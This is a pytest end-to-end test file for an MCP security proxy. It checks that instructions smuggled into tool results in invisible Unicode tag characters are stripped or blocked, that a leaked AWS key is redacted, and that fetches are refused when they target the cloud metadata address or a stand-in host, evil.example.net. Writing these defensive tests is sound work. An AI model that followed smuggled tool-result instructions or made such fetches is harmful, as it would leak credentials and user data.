"""Content inspection and egress end to end: the real CLI in front of a real SDK v2 server, with the
official SDK client; each case leaves the expected audit event."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp.shared.exceptions import MCPError

from tests.support.drawbridge import Drawbridge, run_drawbridge, run_module_server
from tests.support.sdk import sdk_client
from tests.support.servers.content_server import LEAKED_KEY

pytestmark = [pytest.mark.e2e, pytest.mark.anyio]
SERVER = "tests.support.servers.content_server"
RULES = """\
rules:
  - {id: everything, effect: permit, methods: ["*"]}
  - {id: everything-back, effect: permit, direction: to_client, methods: ["*"]}
"""
STRIP = ""  # the default settings: strip invisible characters, redact secrets
BLOCK = """\
settings:
  anonymous: true
  unknown_methods: policy
  content:
    surfaces:
      tool_result: {unicode: block}
  egress:
    egress_tools: [fetch]
    allow:
      - {tools: [fetch], hosts: ["*.example.com"]}
"""


def _policy(tmp: Path, name: str, text: str) -> Path:
    directory = tmp / name
    directory.mkdir()
    settings = text or "settings:\n  anonymous: true\n  unknown_methods: policy\n"
    (directory / "policy.yaml").write_text(settings + RULES, encoding="utf-8")
    return directory


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    with run_module_server(SERVER) as url:
        yield url


@pytest.fixture(scope="module")
def stripping(server: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Drawbridge]:
    tmp = tmp_path_factory.mktemp("strip")
    with run_drawbridge(tmp, {"default": server}, policy=_policy(tmp, "strip", STRIP)) as proxy:
        yield proxy


@pytest.fixture(scope="module")
def blocking(server: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Drawbridge]:
    tmp = tmp_path_factory.mktemp("block")
    with run_drawbridge(tmp, {"default": server}, policy=_policy(tmp, "block", BLOCK)) as proxy:
        yield proxy


def _text(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in getattr(result, "content", []))


def _answer_events(proxy: Drawbridge, tool: str) -> list[dict[str, Any]]:
    """Decision events for answers to calls of `tool` (the answer event names the tool it answers)."""
    return [e for e in proxy.events() if e["direction"] == "to_client" and e["tool"] == tool]


async def test_tag_smuggled_instruction_is_stripped(stripping: Drawbridge) -> None:
    async with sdk_client(stripping.mcp_url()) as client:
        result = await client.call_tool("weather", {"city": "Oslo"})
    text = _text(result)
    assert text == "Oslo: sunny, 18°C."
    assert not any(0xE0000 <= ord(c) <= 0xE007F for c in text)
    event = _answer_events(stripping, "weather")[-1]
    assert event["verdict"] == "rewrite"
    finding = event["findings"][0]
    assert finding["detector"] == "unicode.tag" and finding["surface"] == "tool_result"
    assert finding["message"].endswith("[stripped]") and "evil.example" in finding["excerpt"]


async def test_tag_smuggled_instruction_is_blocked_by_policy(blocking: Drawbridge) -> None:
    async with sdk_client(blocking.mcp_url()) as client:
        with pytest.raises(MCPError) as refused:
            await client.call_tool("weather", {"city": "Oslo"})
    assert refused.value.error.code == -32050
    assert "unicode.tag" in refused.value.error.message
    event = _answer_events(blocking, "weather")[-1]
    assert event["verdict"] == "deny" and event["check"] == "content"
    assert event["rule_ids"] == ["content:unicode.tag"]


async def test_leaked_key_is_redacted(stripping: Drawbridge) -> None:
    async with sdk_client(stripping.mcp_url()) as client:
        result = await client.call_tool("read_config", {})
    text = _text(result)
    assert LEAKED_KEY not in text and "[REDACTED:aws_access_key]" in text and "region=eu-west-1" in text
    event = _answer_events(stripping, "read_config")[-1]
    assert event["verdict"] == "rewrite"
    assert event["findings"][0]["detector"] == "secrets.aws_access_key"
    assert LEAKED_KEY not in stripping.audit_path.read_text()


async def test_metadata_address_is_refused_before_the_server(stripping: Drawbridge) -> None:
    async with sdk_client(stripping.mcp_url()) as client:
        with pytest.raises(MCPError) as refused:
            await client.call_tool("fetch", {"url": "http://169.254.169.254/latest/meta-data/"})
        seen = _text(await client.call_tool("fetched", {}))
    assert refused.value.error.code == -32050 and "metadata service" in refused.value.error.message
    assert "169.254.169.254" not in seen
    event = [e for e in stripping.events() if e["tool"] == "fetch" and e["direction"] == "to_server"][-1]
    assert event["verdict"] == "deny" and event["check"] == "egress"
    assert event["destinations"] == ["http://169.254.169.254"]
    assert event["findings"][0]["detector"] == "egress.metadata_service"


async def test_host_outside_the_allowlist_is_refused(blocking: Drawbridge) -> None:
    async with sdk_client(blocking.mcp_url()) as client:
        ok = await client.call_tool("fetch", {"url": "https://docs.example.com/page"})
        with pytest.raises(MCPError) as refused:
            await client.call_tool("fetch", {"url": "https://evil.example.net/x?d=1"})
        seen = _text(await client.call_tool("fetched", {}))
    assert "fetched https://docs.example.com/page" in _text(ok)
    assert "not in the egress allowlist" in refused.value.error.message
    assert "evil.example.net" not in seen
    calls = [e for e in blocking.events() if e["tool"] == "fetch" and e["direction"] == "to_server"]
    assert calls[-2]["verdict"] == "allow" and calls[-2]["destinations"] == ["https://docs.example.com"]
    assert calls[-1]["verdict"] == "deny" and calls[-1]["destinations"] == ["https://evil.example.net"]
    assert calls[-1]["rule_ids"] == ["egress-allowlist"]


async def test_clean_results_pass_unchanged(stripping: Drawbridge) -> None:
    async with sdk_client(stripping.mcp_url()) as client:
        result = await client.call_tool("notes", {})
    assert _text(result) == "Team sync moved to Thursday 👍"
    assert _answer_events(stripping, "notes")[-1]["verdict"] == "allow"
